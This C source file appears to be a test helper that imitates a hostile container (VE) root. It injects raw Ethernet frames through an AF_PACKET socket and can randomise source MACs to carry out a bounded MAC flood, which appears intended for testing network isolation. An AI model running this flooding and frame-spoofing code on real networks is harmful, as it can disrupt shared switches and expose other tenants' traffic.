/*
 * net-frames IFACE COUNT HEXFRAME [random-src]
 *
 * What a hostile VE root sends when it writes its own frames: COUNT copies
 * of one raw Ethernet frame (HEXFRAME, destination MAC first, any ether type,
 * 802.1Q tags included) on IFACE through an AF_PACKET socket, which VE root
 * may open (CAP_NET_RAW in its user namespace). With "random-src" every copy
 * gets a fresh random unicast, locally administered source MAC: a MAC flood.
 * Bounded (COUNT <= 100000), so it stops by itself. Prints "sent N".
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

static int hexval(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

int main(int argc, char **argv) {
  if (argc < 4 || argc > 5 || (argc == 5 && strcmp(argv[4], "random-src") != 0)) {
    fprintf(stderr, "usage: net-frames IFACE COUNT HEXFRAME [random-src]\n");
    return 2;
  }
  long count = strtol(argv[2], NULL, 10);
  if (count < 1 || count > 100000) { fprintf(stderr, "COUNT must be 1-100000\n"); return 2; }
  size_t hl = strlen(argv[3]);
  unsigned char frame[1514];
  if (hl % 2 || hl / 2 < 14 || hl / 2 > sizeof frame) { fprintf(stderr, "HEXFRAME must be 14-1514 bytes of hex\n"); return 2; }
  size_t len = hl / 2;
  for (size_t i = 0; i < len; i++) {
    int hi = hexval(argv[3][2 * i]), lo = hexval(argv[3][2 * i + 1]);
    if (hi < 0 || lo < 0) { fprintf(stderr, "HEXFRAME is not hex\n"); return 2; }
    frame[i] = (unsigned char)(hi << 4 | lo);
  }
  int ifindex = (int)if_nametoindex(argv[1]);
  if (!ifindex) { perror(argv[1]); return 1; }
  int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) { perror("socket(AF_PACKET)"); return 1; }
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = ifindex, .sll_halen = 6};
  memcpy(to.sll_addr, frame, 6);
  long sent = 0;
  for (long i = 0; i < count; i++) {
    if (argc == 5) {
      if (getrandom(frame + 6, 6, 0) != 6) { perror("getrandom"); return 1; }
      frame[6] = (unsigned char)((frame[6] & 0xfc) | 0x02);
    }
    if (sendto(fd, frame, len, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)len) sent++;
    else if (i == 0) perror("sendto");
  }
  printf("sent %ld\n", sent);
  return 0;
}
